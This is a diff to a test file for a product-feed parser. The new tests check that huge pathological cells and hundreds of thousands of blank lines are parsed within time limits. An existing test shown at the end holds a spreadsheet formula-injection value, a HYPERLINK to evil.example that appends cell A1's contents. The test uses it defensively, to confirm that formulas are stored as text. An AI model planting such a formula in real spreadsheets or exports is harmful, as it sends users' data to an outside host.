@@ -135,6 +135,36 @@ describe('feed that fails as a whole', () => {
 })
 
 describe('feed with hostile cells', () => {
+  const awin =
+    'merchant_deep_link,search_price,product_price_old,alternate_image,stock_quantity,isbn,brand_name'
+  const google = 'sale_price,sale_price_effective_date,additional_image_link,availability,condition,brand'
+
+  it.each([
+    ['white space', ' '.repeat(200_000)],
+    ['commas and white space', ' ,'.repeat(100_000)],
+    ['digits', '1'.repeat(200_000)],
+    ['groups of digits', '1,111 '.repeat(30_000)],
+    ['beginnings of tags', '<a '.repeat(60_000)],
+    ['beginnings of entities', '&#1'.repeat(60_000)],
+    ['hyphens', '-'.repeat(200_000)],
+  ])('%s - 200 kB, in every column - takes no longer than other text', async (_, piece) => {
+    const startedAtMs = performance.now()
+    for (const names of [`product_name,${awin}`, google]) {
+      for (const cell of [`"a${piece}b"`, `"1${piece}1"`]) {
+        const cells = names.split(',').map(() => cell)
+        await readText(`${names},${HEAD}${cells.join(',')},${GOOD_ROW}`)
+        await readText(`${names},${HEAD}${cells.join(',')},17,${cell},https://shop.example/,${cell}\n`)
+      }
+    }
+    expect(performance.now() - startedAtMs).toBeLessThan(10_000)
+  })
+
+  it('blank lines - before anything else - take no longer than other text', async () => {
+    const startedAtMs = performance.now()
+    await expect(readText('\n'.repeat(500_000))).rejects.toThrow('no feed that is known')
+    expect(performance.now() - startedAtMs).toBeLessThan(1_000)
+  })
+
   it('formulas, markup and commands - in every cell - arrive as text', async () => {
     const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
     const under = await openTestStore()
